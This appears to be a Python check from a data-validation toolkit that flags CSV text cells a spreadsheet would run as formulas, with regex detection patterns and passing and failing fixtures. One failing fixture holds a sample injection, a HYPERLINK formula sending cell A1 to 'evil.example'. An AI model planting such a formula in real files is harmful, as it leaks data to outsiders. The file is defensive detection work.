"""A cell begins like the formula of a spreadsheet.

## What it finds
Cells of text fields that a spreadsheet would compute: those that begin with `=` (but `=)` and `=>` are texts);
with `+` or `-` before a function, a command, a reference to a cell or a sum (`+A1`, `-2+3`); with `@` before a function
(`@SUM(1)`); all of these after tabs or line ends, too. Numbers, dates, telephone numbers (`+7 4212 32-02-01`), a hyphen
before a word (`-stan`) and names like `@kremlin` are none.

## Why it matters
Who opens the file in a spreadsheet sees the result instead of the text, and a formula can send the other cells to a
stranger or start a program.

## How to mend it
If the cell should hold no formula, correct it. If it rightly does, tell readers to import the column as text. Do not
put an apostrophe before it: that would change the data for everybody else.
"""

from collections.abc import Iterator

from dpkit.checks.check import Rule
from dpkit.checks.example import package
from dpkit.model.finding import Severity
from dpkit.model.roles import ClaimKind
from dpkit.tables.sql import only_if, sql, text
from dpkit.tables.table import Table

SEVERITY = Severity.WARNING
NAMES = ["event_id", "place"]
PASSES = package(events=("event_id,place\na,+7 4212 32-02-01\nb,-\nc,@kremlin\nd,-stan\n", NAMES))
FAILS = package(events=('event_id,place\na,"=HYPERLINK(""http://evil.example/?""&A1,""Omsk"")"\n', NAMES))

FUNCTION, COMMAND, JOINED = r".*[A-Za-z_.]\(.*", r".*\|.*", r'\s*".*'
CELL, SUM = r"\s*\$?[A-Za-z]{1,3}\$?[0-9]{1,7}\b.*", r"[\d\s.,()]*\d\s*[+*^]\s*[\d(A-Za-z$].*"
SIGNED = f"{FUNCTION}|{COMMAND}|{JOINED}|{CELL}|{SUM}"  # what makes a formula of a text that begins with a sign
NO_START = r")\]}>?,;:*/^&~|<"  # with which no formula goes on: `=)` and `=>` are texts
FORMULA = rf"(?s)[\t\r\n]*(=\s*[^=\s{NO_START}].*|[+-]({SIGNED})|@\s*[A-Za-z_.]+\(.*)"


def rules(table: Table) -> Iterator[Rule]:
    """Yield a rule for each field of free text: what a key, a list or a claim allows is judged by other checks."""
    referring = {name for key in table.schema.foreign_keys for name in key.fields}
    for column in table.columns.values():
        told = column.of.claim is None or column.of.claim.kind in {ClaimKind.LABEL, ClaimKind.MEMBER}
        free = told and "enum" not in column.of.constraints and column.name not in referring
        if free and column.of.type in {"string", "any"} and column.present:
            # what begins with none of these characters is told apart by its first four bytes, without a pattern
            begins = sql("(({c} >= chr(9) AND {c} < '.') OR ({c} >= '=' AND {c} < 'A'))", c=column.raw)
            formula = sql("regexp_full_match({}, {})", column.raw, text(FORMULA))
            broken = only_if(begins, sql("{} AND NOT ({})", formula, column.missing))
            message = "{field} is {value}, which begins like a formula"
            yield Rule(fields=(column.name,), suspect=begins, broken=broken, message=message)
